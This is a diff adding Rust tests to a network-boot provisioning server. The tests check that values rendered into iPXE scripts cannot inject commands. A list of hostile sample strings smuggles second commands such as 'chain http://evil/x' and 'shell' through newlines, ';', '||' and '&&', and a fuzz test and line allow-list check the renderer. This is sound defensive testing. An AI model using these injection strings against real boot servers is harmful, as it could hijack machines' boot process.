@@ -1377,3 +1377,277 @@ async fn builtin_templates_are_listed_shown_and_overridable() {
     let (s, _) = a.call("GET", "/api/v1/templates/nope", None, false).await;
     assert_eq!(s, StatusCode::NOT_FOUND);
 }
+
+// ---- issue 15, hole 8: nothing rendered into an iPXE script injects ----
+
+/// Strings that would add an iPXE command (or swallow the next line) if
+/// pasted into a script line.
+const INJECTIONS: [&str; 9] = [
+    "quiet\nchain http://evil/x",
+    "quiet\r\nshell",
+    "quiet ; shell",
+    "quiet || chain http://evil/x",
+    "quiet && shell",
+    "quiet #comment",
+    "quiet\\",
+    "quiet\tx\u{0b}",
+    "quiet\u{85}shell",
+];
+
+#[tokio::test]
+async fn ipxe_injection_is_refused_at_write_time() {
+    let a = api();
+    for bad in INJECTIONS {
+        let mut s = a.state.inventory.read().unwrap().settings().clone();
+        s.agent_kernel_options = bad.into();
+        let (st, body) = a
+            .call("PUT", "/api/v1/settings", Some(json!(s)), true)
+            .await;
+        assert_eq!(st, StatusCode::CONFLICT, "{bad:?}: {body}");
+        assert!(
+            body.contains("agent_kernel_options")
+                && body.contains("kernel options must be one line"),
+            "{bad:?}: {body}"
+        );
+        for (uri, obj) in [
+            (
+                "/api/v1/profiles",
+                json!({"name": "p2", "distro": "deb", "kernel_options": bad}),
+            ),
+            (
+                "/api/v1/distros",
+                json!({"name": "d2", "kernel": K, "initrd": I, "kernel_options": bad}),
+            ),
+            (
+                "/api/v1/systems",
+                json!({"name": "s2", "profile": "base", "kernel_options": bad}),
+            ),
+        ] {
+            let (st, body) = a.call("POST", uri, Some(obj), true).await;
+            assert_eq!(
+                (st, code(&body).as_str()),
+                (StatusCode::UNPROCESSABLE_ENTITY, "invalid_object"),
+                "{uri} {bad:?}: {body}"
+            );
+            assert!(body.contains("kernel_options"), "{body}");
+        }
+    }
+    for url in [
+        "http://m/vmlinuz\nchain http://evil/x",
+        "http://m/vmlinuz ; shell",
+        "http://m/vmlinuz\tx",
+        "http://",
+        "https:///x",
+        "http://m/é",
+    ] {
+        let (st, body) = a
+            .call(
+                "POST",
+                "/api/v1/distros",
+                Some(json!({"name": "d3", "kernel": url, "initrd": I})),
+                true,
+            )
+            .await;
+        assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY, "{url:?}: {body}");
+        assert!(body.contains("kernel"), "{body}");
+    }
+    // Settings with a bad default profile name or variable name.
+    let mut s = a.state.inventory.read().unwrap().settings().clone();
+    s.default_profile = "web\nshell".into();
+    let (st, body) = a
+        .call("PUT", "/api/v1/settings", Some(json!(s)), true)
+        .await;
+    assert_eq!(st, StatusCode::CONFLICT, "{body}");
+    assert!(body.contains("default_profile"), "{body}");
+    // Plain options, iPXE settings expansion and URLs with queries pass.
+    let mut s = a.state.inventory.read().unwrap().settings().clone();
+    s.agent_kernel_options =
+        "console=ttyS0,115200 BOOTIF=${net0/mac} ds=nocloud-net;s=http://x/".into();
+    let (st, body) = a
+        .call("PUT", "/api/v1/settings", Some(json!(s)), true)
+        .await;
+    assert_eq!(st, StatusCode::OK, "{body}");
+    let (st, body) = a
+        .call(
+            "POST",
+            "/api/v1/distros",
+            Some(json!({"name": "d4", "kernel": "https://m:8443/k?x=1&y=%20", "initrd": I})),
+            true,
+        )
+        .await;
+    assert_eq!(st, StatusCode::CREATED, "{body}");
+}
+
+/// The lines a served script may have: its magic, comments, and the
+/// commands the renderer writes (first word).
+fn assert_only_our_lines(script: &str) {
+    let allowed = [
+        "#!ipxe", "#", "echo", "exit", "kernel", "initrd", "boot", "menu", "item", "choose",
+        ":local",
+    ];
+    for line in script.lines() {
+        let first = line.split(' ').next().unwrap_or("");
+        assert!(
+            allowed.contains(&first) || (first.starts_with(":e") && !line.contains(' ')),
+            "unexpected line {line:?} in\n{script}"
+        );
+        assert!(!line.ends_with('\\'), "continued line {line:?}");
+        assert!(
+            !line.contains(|c: char| c.is_control()),
+            "control character in {line:?}"
+        );
+        if first == "choose" {
+            // The renderer's own menu line, with its own separators.
+            let def = line
+                .strip_prefix("choose --default ")
+                .and_then(|r| {
+                    r.strip_suffix(" --timeout 20000 target && goto ${target} || goto local")
+                })
+                .unwrap_or_else(|| panic!("unexpected {line:?}"));
+            assert!(
+                def == "local"
+                    || def
+                        .strip_prefix('e')
+                        .is_some_and(|n| n.parse::<usize>().is_ok())
+            );
+        } else if !line.starts_with('#') {
+            // No second command on the line (iPXE's command terminators).
+            for w in line.split(' ').skip(1) {
+                assert!(
+                    !matches!(w, "||" | "&&" | ";") && !w.starts_with('#'),
+                    "{w:?} in {line:?}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn an_old_inventory_cannot_inject_ipxe_commands() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut inv = sample(dir.path());
+    let good = ipxe_script(&decide(&inv, "aa:bb:cc:00:00:01", "10.0.0.1:8080"));
+    assert_eq!(good.lines().count(), 5, "{good}");
+    assert_only_our_lines(&good);
+    for bad in INJECTIONS {
+        // Values written before validation existed (or by hand, or by a
+        // sync from a node without it): straight into the repository.
+        let settings = json!({"default_boot": "agent", "agent_kernel_options": bad});
+        let distro = json!({"kernel": format!("http://m/k {bad}"), "initrd": I, "breed": "debian"});
+        let system = json!({"profile": "web", "kernel_options": bad,
+            "interfaces": [{"mac": "aa:bb:cc:00:00:01"}]});
+        inv.commit(
+            vec![
+                Change::Write("settings.json".into(), settings.to_string().into_bytes()),
+                Change::Write("distros/deb2.json".into(), distro.to_string().into_bytes()),
+                Change::Write(
+                    "profiles/p2.json".into(),
+                    json!({"distro": "deb2"}).to_string().into_bytes(),
+                ),
+                Change::Write("systems/web1.json".into(), system.to_string().into_bytes()),
+            ],
+            &who().signature(),
+            "old values",
+        )
+        .unwrap();
+        let old = Inventory::open_volatile(dir.path()).unwrap();
+        // The agent: settings.agent_kernel_options go on the line as they
+        // are (a trailing backslash is harmless there: more words follow).
+        let d = decide(&old, "aa:bb:cc:00:00:99", "10.0.0.1:8080");
+        let script = ipxe_script(&d);
+        assert_only_our_lines(&script);
+        if bad.ends_with('\\') {
+            assert_eq!(script.lines().count(), 5, "{script}");
+        } else {
+            let e = super::boot::try_ipxe_script(&d).unwrap_err();
+            assert!(e.value.contains(bad), "{e}");
+            assert!(script.contains("refused"), "{script}");
+            assert!(
+                !script.contains("evil") && !script.contains("shell"),
+                "{script}"
+            );
+        }
+        // An install: blending splits kernel options on whitespace (so a
+        // newline became a space: more kernel arguments, no new command);
+        // a command separator survives it and is refused.
+        let script = ipxe_script(&decide(&old, "aa:bb:cc:00:00:01", "10.0.0.1:8080"));
+        assert_only_our_lines(&script);
+        if bad.contains([';', '|', '&', '#']) {
+            assert!(script.contains("refused"), "{bad:?}: {script}");
+        } else {
+            assert_eq!(script.lines().count(), 5, "{script}");
+        }
+        let p2 = super::boot::BootDecision::Menu {
+            why: "m".into(),
+            entries: vec![super::boot::BootEntry {
+                label: format!("profile {bad}"),
+                kernel: "http://m/k".into(),
+                initrd: "http://m/i".into(),
+                cmdline: String::new(),
+            }],
+            default: None,
+        };
+        assert!(super::boot::try_ipxe_script(&p2).is_err());
+        assert_only_our_lines(&ipxe_script(&p2));
+        let why = super::boot::BootDecision::Local {
+            why: format!("x {bad}"),
+        };
+        let script = ipxe_script(&why);
+        assert_only_our_lines(&script);
+        if bad.contains(|c: char| c.is_control()) || bad.ends_with('\\') {
+            assert!(script.contains("refused"), "{script}");
+        }
+    }
+    // A hostile Host header (the server URL) is refused the same way.
+    let d = decide(&inv, "aa:bb:cc:00:00:01", "10.0.0.1 ; chain http://evil/x");
+    let script = ipxe_script(&d);
+    assert!(
+        script.contains("refused") && !script.contains("evil"),
+        "{script}"
+    );
+    for server in ["http://10.0.0.1 || shell", "http://10.0.0.1\nshell"] {
+        let s = crate::pxe::agent_script(server, "console=ttyS0");
+        assert!(s.contains("refused") && !s.contains("shell"), "{s}");
+        assert_only_our_lines(&s);
+    }
+    assert!(crate::pxe::agent_script("http://10.0.0.1", "a ; shell").contains("refused"));
+    assert_only_our_lines(&crate::pxe::agent_script(
+        "http://10.0.0.1:8080",
+        "console=ttyS0",
+    ));
+}
+
+/// Random values in every field of a decision: whatever the renderer
+/// serves has only its own lines.
+#[test]
+fn random_values_never_add_an_ipxe_line() {
+    let mut rng = crate::mutate::Rng::new(0x5eed_01be);
+    let alphabet: Vec<char> = "ab=:/. ;|&#\\\n\r\t${}\u{85}\u{2028}".chars().collect();
+    let word = |rng: &mut crate::mutate::Rng| -> String {
+        let n = rng.below(12);
+        (0..n)
+            .map(|_| alphabet[rng.below(alphabet.len())])
+            .collect()
+    };
+    for _ in 0..3000 {
+        let entry = super::boot::BootEntry {
+            label: word(&mut rng),
+            kernel: format!("http://{}", word(&mut rng)),
+            initrd: format!("http://s/{}", word(&mut rng)),
+            cmdline: word(&mut rng),
+        };
+        let why = word(&mut rng);
+        let d = match rng.below(3) {
+            0 => BootDecision::Local { why },
+            1 => BootDecision::Boot { why, entry },
+            _ => BootDecision::Menu {
+                why,
+                entries: vec![entry],
+                default: Some(0),
+            },
+        };
+        assert_only_our_lines(&ipxe_script(&d));
+        let server = format!("http://{}", word(&mut rng));
+        assert_only_our_lines(&crate::pxe::agent_script(&server, &word(&mut rng)));
+    }
+}
